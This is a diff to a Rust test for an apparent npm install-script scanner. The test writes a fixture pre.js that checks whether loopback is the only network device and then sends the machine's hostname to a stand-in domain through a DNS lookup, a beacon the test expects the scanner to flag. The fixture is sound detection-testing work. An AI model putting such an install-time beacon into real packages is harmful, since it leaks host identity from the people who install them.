@@ -404,7 +404,7 @@ fn an_npm_package_with_dependencies_still_runs_its_install_script() {
     // Inert outside the sandbox: acts only when the only device is `lo`.
     std::fs::write(
         pkg.join("pre.js"),
-        "const fs = require('fs');\nconst devs = fs.readFileSync('/proc/net/dev', 'utf8').split('\\n').slice(2).map((l) => l.split(':')[0].trim()).filter(Boolean);\nif (devs.every((d) => d === 'lo')) {\n  require('dns').lookup(require('os').hostname() + '.deps.example.test', () => {});\n}\nsetTimeout(() => {}, 300);\n",
+        "const fs = require('fs');\nconst devs = fs.readFileSync('/proc/net/dev', 'utf8').split('\\n').slice(2).map((l) => l.split(':')[0].trim()).filter(Boolean);\nif (devs.every((d) => d === 'lo')) {\n  require('dns').lookup(require('os').hostname() + '.deps.example.test', () => {});\n}\nsetTimeout(() => {}, 300);\ntry { require('axios'); } catch (_) {}\n",
     )
     .unwrap();
     let tgz = dir.path().join("withdeps-1.0.0.tgz");
@@ -415,6 +415,12 @@ fn an_npm_package_with_dependencies_still_runs_its_install_script() {
     assert!(
         has(&r, "DYN701", "pre.js", 4),
         "host name beacon not seen at pre.js:4: {:#?}",
+        r.findings
+    );
+    // The require of the left-out dependency is reported, at its line.
+    assert!(
+        has(&r, "DYN714", "pre.js", 7),
+        "missing require not reported at pre.js:7: {:#?}",
         r.findings
     );
     assert!(
